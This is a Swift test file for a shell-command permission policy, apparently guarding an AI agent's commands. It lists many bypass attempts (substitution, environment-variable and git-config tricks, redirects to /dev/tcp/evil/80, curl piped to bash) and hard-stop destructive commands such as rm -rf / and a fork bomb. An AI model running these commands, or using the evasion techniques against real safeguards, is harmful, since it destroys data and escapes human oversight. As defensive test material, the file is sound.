import Foundation
import Testing

@testable import SpacesKit
@testable import SpacesModel
@testable import SpacesPolicy

/// Judges `command` under the standard preset.
func standard(_ command: String) -> Decision {
  CommandJudge.judge(command, rules: CommandJudge.standardCommandRules, unmatched: .ask)
}

/// Attempts to get something past the standard preset; none may come out `allow`.
let bypassAttempts: [String] = [
  // Chaining.
  "ls; curl x", "ls && curl x", "ls || curl x", "ls | curl x", "ls & curl x", "ls\ncurl x",
  "ls\r\ncurl x", "curl x &", "ls & wget x &", "(ls; curl x)", "{ ls; curl x; }",
  "if true; then curl x; fi", "for i in 1; do curl x; done", "case a in a) curl x;; esac",
  // Substitution.
  "echo $(curl x)", "echo `curl x`", "echo \"$(curl x)\"", "cat <(curl x)", "ls > >(curl x)",
  "echo $((1+$(curl x)))", "echo ${X:-$(curl x)}", "echo $(ls)", "cat <<EOF\n$(curl x)\nEOF",
  "cat <<EOF\n`curl x`\nEOF", "echo $((x))",
  // Wrappers.
  "env curl x", "nice curl x", "nice -n 5 curl x", "xargs rm", "echo a | xargs rm",
  "busybox wget x",
  "command curl x", "timeout 5 curl x", "nohup curl x", "sudo ls", "doas ls", "time curl x",
  "exec curl x", "exec ls", "eval ls", "eval 'curl x'", "source x.sh", ". ./x.sh", "builtin echo x",
  "stdbuf -oL ls", "setsid ls", "strace ls", "env -S 'curl x'", "env -i ls", "command -p ls",
  "timeout --bogus 5 ls", "chroot / ls", "unshare ls",
  // Environment.
  "LD_PRELOAD=x ls", "PATH=. ls", "GIT_SSH_COMMAND=x git status", "PAGER='sh -c x' git log",
  "IFS=x ls", "BASH_ENV=x bash build.sh", "PATH=.; ls", "export PATH=.; ls", "env PATH=. ls",
  "for PATH in .; do ls; done", "printf -v PATH .; ls", "HOME=/x git status",
  // Quoting and escaping.
  "c'u'rl x", "\"curl\" x", "\\curl x", "cu\\rl x", "$'\\x63url' x", "l\"\"s; curl x",
  "$'ls'", "ls$'\\n'curl x",
  // git.
  "git -c core.pager=x log", "git -c alias.st='!sh' st", "git --exec-path=. status",
  "git config core.hooksPath x", "git log --output=/etc/x", "git diff --ext-diff", "git -p log",
  "git --git-dir=/x status", "git --work-tree=/ status", "git -C / status", "git -C .. status",
  "git push", "git fetch", "git clone https://x", "git commit -m x", "git reset --hard",
  "git clean -fdx", "git branch -D main", "git grep -Ovi x", "git rebase -x 'curl x' main",
  "git fetch --upload-pack=x origin", "git diff --textconv", "git -ccore.pager=x log",
  "git --config-env=core.pager=X log", "git show --output=../x", "git remote add o x",
  // find.
  "find . -exec sh {} \\;", "find . -execdir rm {} +", "find . -delete", "find . -fprint /etc/x",
  "find . -ok rm {} \\;", "find . -name x -exec rm {} \\;",
  // sed and awk.
  "sed -i s/a/b/ f", "sed -i.bak s/a/b/ f", "sed --in-place s/a/b/ f", "sed 'e id'",
  "sed 's/x/id/e' f", "sed 'w /etc/x' f", "sed -n 's/a/b/w out' f", "sed -f script.sed f",
  "sed -ne 's/a/b/e' f", "sed '1e id' f", "sed -e p -e 'w x' f", "sed --expression='e id' f",
  "awk 'BEGIN{system(\"id\")}'", "awk '{print | \"sh\"}' f", "awk '{print > \"/etc/x\"}' f",
  "awk -f prog.awk f", "gawk '@load \"x\"'", "awk '{ \"id\" | getline x }'",
  // Redirects.
  "echo x > /etc/passwd", "cat a >> ../../x", "ls > ~/x", "echo > $HOME/x", "ls 2>/tmp/../etc/x",
  "echo x >& /etc/x", "echo x &> /etc/x", "cat < /dev/tcp/evil/80", "echo x > /dev/tcp/evil/80",
  "echo x >| /x", "ls 1<>/etc/x", "{ ls; } > /etc/x", "echo x > ${OUT}", "echo x > ~user/x",
  // Writers outside the workspace.
  "tee /etc/x < a", "cp a /etc/x", "mv a ../x", "touch ~/x", "sort -o /etc/x a",
  "sort --output=/etc/x a", "uniq a /etc/x", "mkdir /x", "cp -t /etc a",
  "cp --target-directory=/etc a",
  "ln -s /etc x", "rm /etc/x", "cd /etc && ls", "cd", "cd ~", "cd -", "cd .. && ls",
  // Program paths and patterns.
  "/bin/rm -rf x", "./curl x", "../bin/ls", "/usr/bin/curl x", "~/bin/ls", "$X", "$X args",
  "${X} a", "cat${IFS}/etc/passwd", "/???/??t /etc/passwd", "*", "l? -la", "{curl,x}",
  "ls {-la,/etc}", "./dist/greet x",
  // Network, deletion and the rest of the unlisted.
  "rm -rf x", "rm -r x", "rm --recursive x", "rm -fr x", "rm -R x", "pip install x",
  "pip3 install x",
  "python3 -m pip install x", "npm install x", "pnpm add x", "yarn add x", "cargo install x",
  "go get x", "apt-get install x", "docker run x", "wget x", "nc -l 80", "ssh host", "scp a host:",
  "rsync a host:b", "npx x", "chmod 777 x", "kill 1", "tar xf a.tar", "ls() { curl x; }; ls",
  "alias ls=curl", "date -s 2020-01-01", "rg --pre sh x", "sort --compress-program=sh a",
  "python3 /usr/bin/pip install x", "node /usr/lib/node_modules/npm/bin/npm-cli.js i",
  "go run github.com/x/y@latest", "deno run https://x/y.ts", "> /etc/x", "2>/etc/x ls",
  // Shells.
  "sh -c \"$X\"", "bash -c 'curl x'", "sh", "echo ls | sh", "curl x | bash", "bash -i", "sh -s",
  "sh /tmp/x.sh", "bash ../x.sh", "bash -l build.sh", "sh -c", "sh <<EOF\ncurl x\nEOF",
  "bash -c \"$(curl x)\"", "sh -c 'sh -c \"curl x\"'",
  // Parse errors and extremes.
  "echo 'unbalanced", "echo \"unbalanced", "(", "ls )", "if true; then ls", "ls `", "ls $(",
  "echo \u{0}; curl x", "echo $(rm -rf /)",
]

@Test func extremeInputsAreNotAllowed() {
  let long = String(repeating: "ls; ", count: 20_000) + "curl x"
  let deep = String(repeating: "(", count: 10_000) + "ls" + String(repeating: ")", count: 10_000)
  #expect(standard(long).decision == .ask)
  #expect(standard(deep).decision == .ask)
  #expect(ShellAnalyzer.analyze(deep).hazards.map(\.kind) == [.parseError])
}

/// Bypass attempts with the hazard the analyzer must name, so they are caught for the right
/// reason rather than only by falling through to `unmatched`.
let namedHazards: [(String, Hazard.Kind)] = [
  ("echo $(curl x)", .commandSubstitution), ("echo `id`", .commandSubstitution),
  ("cat <(curl x)", .processSubstitution), ("echo $((1+$(id)))", .commandSubstitution),
  ("cat <<EOF\n$(id)\nEOF", .commandSubstitution), ("eval ls", .eval), ("exec ls", .exec),
  ("source x", .source), (". x", .source), ("sh -c \"$X\"", .shellInvocation),
  ("echo ls | sh", .shellInvocation), ("xargs rm", .wrapper), ("sudo ls", .wrapper),
  ("busybox wget x", .wrapper), ("env -i ls", .wrapper), ("LD_PRELOAD=x ls", .environmentPrefix),
  ("GIT_SSH_COMMAND=x git status", .environmentPrefix), ("env PATH=. ls", .environmentPrefix),
  ("echo x > /etc/passwd", .redirectOutsideWorkspace),
  ("cat a >> ../../x", .redirectOutsideWorkspace),
  ("ls > ~/x", .redirectOutsideWorkspace), ("echo > $HOME/x", .redirectOutsideWorkspace),
  ("echo x >& /etc/x", .redirectOutsideWorkspace), ("cat < /dev/tcp/h/80", .networkRedirect),
  ("echo x > /dev/sda", .deviceWrite), ("cp a /etc/x", .pathOutsideWorkspace),
  ("sort -o /etc/x a", .pathOutsideWorkspace),
  ("python3 /usr/bin/pip install x", .pathOutsideWorkspace),
  ("find . -exec sh {} \\;", .findExec), ("find . -delete", .findExec),
  ("find . -fprint x", .findExec),
  ("git -c core.pager=x log", .gitConfigTrick), ("git --exec-path=. status", .gitConfigTrick),
  ("git config core.hooksPath x", .gitConfigTrick), ("git log --output=/etc/x", .gitConfigTrick),
  ("git diff --ext-diff", .gitConfigTrick), ("git -p log", .gitConfigTrick),
  ("git --git-dir=/x status", .gitConfigTrick), ("git -C / status", .gitConfigTrick),
  ("git fetch --upload-pack=x o", .gitConfigTrick), ("sed -i s/a/b/ f", .sedExecute),
  ("sed 'e id'", .sedExecute), ("sed 's/x/id/e' f", .sedExecute), ("sed 'w /etc/x' f", .sedExecute),
  ("awk 'BEGIN{system(\"id\")}'", .awkExecute), ("awk '{print | \"sh\"}'", .awkExecute),
  ("/bin/rm -rf x", .absolutePath), ("../bin/ls", .absolutePath), ("$X", .parameterExpansion),
  ("cat${IFS}/etc/passwd", .parameterExpansion), ("/???/??t", .glob), ("{curl,x}", .braceExpansion),
  ("$'\\x63url' x", .ansiCQuoting), (":(){ :|:& };:", .forkBomb), ("echo 'x", .parseError),
  ("for PATH in .; do ls; done", .environmentPrefix),
]

@Test(arguments: namedHazards)
func bypassIsFlaggedForItsReason(_ command: String, _ kind: Hazard.Kind) {
  let hazards = ShellAnalyzer.analyze(command).hazards
  #expect(hazards.contains { $0.kind == kind }, "\(hazards)")
}

@Test(arguments: bypassAttempts)
func bypassIsNotAllowed(_ command: String) {
  let decision = standard(command)
  #expect(decision.decision != .allow, "\(decision)")
  #expect(!decision.reasons.isEmpty)
}

@Test func bypassTableIsLarge() {
  #expect(bypassAttempts.count >= 80)
}

/// Everyday commands the standard preset allows without asking.
let allowedCommands: [String] = [
  "ls -la", "git status", "git --no-pager diff", "git -C src status", "git log --oneline -5",
  "git diff HEAD~1 -- src", "git add . && git status", "git branch -a", "git show HEAD:file",
  "git rev-parse HEAD", "git ls-files", "cat a | grep b | sort | uniq -c", "python3 main.py",
  "python3 -c 'print(1)'", "python3 -m pytest -q", "sh build.sh", "bash ./scripts/x.sh",
  "echo hi > out.txt", "echo hi >> logs/out.txt 2>&1", "ls 2>/dev/null", "make test", "make",
  "npm run build", "npm test", "pnpm run lint", "yarn test", "swift build", "swift test --parallel",
  "go test ./...", "go vet ./...", "cargo build --release", "cargo +nightly check",
  "cat > f.txt <<'EOF'\nhello $(not run) `nor this`\nEOF", "cat > f.txt <<EOF\nplain text\nEOF",
  "grep -rn TODO src | head -20", "mkdir -p build && cp a build/", "rm old.txt", "rm -f a b",
  "mv a b", "ln a b", "touch x", "tee out.txt < in.txt", "sed 's/a/b/g' f", "sed -n '1,5p' f",
  "sed -E -e 's/(a|b)/c/' -e '/x/d' f", "awk '{print $1}' f",
  "awk -F, '{ n += $2 } END { print n }' f",
  "find . -name '*.swift'", "wc -l *.swift", "jq .name package.json", "echo $?",
  "test -f a && echo yes || echo no", "if [ -f a ]; then cat a; fi", "[[ -d src ]] && ls src",
  "sh -c 'ls; pwd'", "nice -n 5 make", "timeout 60 swift test", "time swift build",
  "(cd src && ls)", "cd src && make", "{ echo a; echo b; } > out.txt", "echo 'a; curl x'",
  "diff -u a b", "head -n 5 a", "date", "sleep 1", "which git", "pwd", "basename a/b",
  "printf '%s\\n' x", "echo hi # comment", "pytest -q", "tsc --noEmit", "node index.js",
  "deno run main.ts", "bun run dev", "command -v git", "echo $((2 * 21))", "ls -la \\\n  src",
  "tsc && node dist/index.js", "2>/dev/null ls", "case x in a) ls;; esac",
  "while false; do ls; done",
]

@Test(arguments: allowedCommands)
func everydayCommandIsAllowed(_ command: String) {
  let decision = standard(command)
  #expect(decision.decision == .allow, "\(decision)")
  #expect(!decision.rules.isEmpty)
}

@Test func allowTableIsLarge() {
  #expect(allowedCommands.count >= 30)
}

/// Hard stops: denied even when everything else would be allowed.
let hardStops: [String] = [
  "rm -rf /", "rm -rf /*", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rf ~",
  "rm -rf ~/", "rm -rf \"$HOME\"", "rm -rf /etc", "rm -rf /usr/", "rm -Rf /home/*",
  "rm --no-preserve-root -rf /", "ls && rm -rf /", "echo $(rm -rf /)", "sh -c 'rm -rf /'",
  "nice rm -rf /", "timeout 5 rm -rf /", "mkfs.ext4 /dev/sda1", "mkfs -t ext4 /dev/sdb",
  "wipefs -a /dev/sda", "dd if=/dev/zero of=/dev/sda", "dd if=x of=/dev/nvme0n1 bs=1M",
  ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "shutdown -h now", "reboot", "halt",
  "poweroff", "systemctl reboot", "init 0", "echo x > /dev/sda", "cat img > /dev/nvme0n1",
  "tee /dev/sda < x", "chmod -R 777 /", "chown -R x /etc",
]

@Test(arguments: hardStops)
func hardStopDeniesEvenWhenPermissive(_ command: String) {
  let permissive = [
    CommandRule(program: "*", decision: .allow, reason: "anything goes", name: "permissive:any")
  ]
  #expect(CommandJudge.judge(command, rules: permissive, unmatched: .allow).decision == .deny)
  #expect(CommandJudge.judge(command, rules: [], unmatched: .allow).decision == .deny)
  #expect(standard(command).decision == .deny)
}

@Test(arguments: [
  "dd if=/dev/sda of=disk.img", "rm -rf ./build", "rm -rf build/*", "chmod -R u+w src", "init",
])
func nearHardStopIsNotDenied(_ command: String) {
  #expect(standard(command).decision != .deny)
}

@Test func decisionNamesHazardsFirstThenDecidingRules() {
  let decision = standard("echo $(curl x)")
  #expect(decision.decision == .ask)
  #expect(decision.rules.first == "analyzer:commandSubstitution")
  #expect(decision.rules.contains("standard:network"))
  #expect(decision.reasons.first?.contains("$(…)") == true)
  #expect(!decision.rules.contains("standard:echo"))

  let allowed = standard("ls | wc -l")
  #expect(
    allowed
      == Decision(
        .allow,
        reasons: ["`ls` only reads files or prints text", "`wc` only reads files or prints text"],
        rules: ["standard:ls", "standard:wc"]))

  let unmatched = standard("frobnicate x")
  #expect(unmatched == Decision(.ask, reasons: ["no rule covers `frobnicate`"]))
  #expect(CommandJudge.judge("frobnicate", rules: [], unmatched: .deny).decision == .deny)
  #expect(standard("").decision == .allow)
  #expect(standard("  # nothing").decision == .allow)
}

@Test func strictestMatchingRuleWins() {
  let rules = [
    CommandRule(program: "git", decision: .allow, reason: "git", name: "t:git"),
    CommandRule(program: "git", prefix: ["push"], decision: .ask, reason: "push", name: "t:push"),
    CommandRule(
      program: "git", prefix: ["push"], anywhere: ["--force|-f"], decision: .deny, reason: "force",
      name: "t:force"),
  ]
  #expect(CommandJudge.judge("git status", rules: rules, unmatched: .ask).decision == .allow)
  #expect(CommandJudge.judge("git push", rules: rules, unmatched: .ask).decision == .ask)
  #expect(
    CommandJudge.judge("git push origin -f", rules: rules, unmatched: .ask)
      == Decision(.deny, reasons: ["force"], rules: ["t:force"]))
}

@Test func rulePatterns() {
  func rule(_ program: String, _ prefix: [String] = [], anywhere: [String] = []) -> CommandRule {
    CommandRule(
      program: program, prefix: prefix, anywhere: anywhere, decision: .allow, reason: "", name: "")
  }
  #expect(rule("ls").matches(SimpleCommand(program: "ls")))
  #expect(!rule("ls").matches(SimpleCommand(program: "/bin/ls")))
  #expect(rule("*").matches(SimpleCommand(program: "/bin/ls")))
  #expect(rule("mkfs*").matches(SimpleCommand(program: "mkfs.ext4")))
  #expect(rule("a|b").matches(SimpleCommand(program: "b")))
  #expect(rule("x", ["*.py"]).matches(SimpleCommand(program: "x", arguments: ["src/a.py", "-v"])))
  #expect(!rule("x", ["*.py"]).matches(SimpleCommand(program: "x", arguments: ["a.pyc"])))
  #expect(
    rule("rm", anywhere: ["-r"]).matches(SimpleCommand(program: "rm", arguments: ["x", "-fr"])))
  #expect(
    !rule("rm", anywhere: ["-r"]).matches(SimpleCommand(program: "rm", arguments: ["--force"])))
  #expect(rule("rm", anywhere: ["/\\*"]).matches(SimpleCommand(program: "rm", arguments: ["/*"])))
  #expect(
    !rule("rm", anywhere: ["/\\*"]).matches(SimpleCommand(program: "rm", arguments: ["/etc"])))
  #expect(
    rule("git", ["status"]).matches(
      SimpleCommand(program: "git", arguments: ["--no-pager", "-C", "a", "status"])))
  #expect(
    !rule("git", ["status"]).matches(
      SimpleCommand(program: "git", arguments: ["--weird", "status"])))
}

@Test func rulesDecodeWithOptionalFields() throws {
  let json = #"{"program":"git","decision":"ask","reason":"r","name":"n"}"#
  let rule = try JSONDecoder().decode(CommandRule.self, from: Data(json.utf8))
  #expect(rule == CommandRule(program: "git", decision: .ask, reason: "r", name: "n"))
  let again = try JSONDecoder().decode(
    CommandRule.self, from: JSONEncoder().encode(CommandJudge.hardStopRules[0]))
  #expect(again == CommandJudge.hardStopRules[0])
}
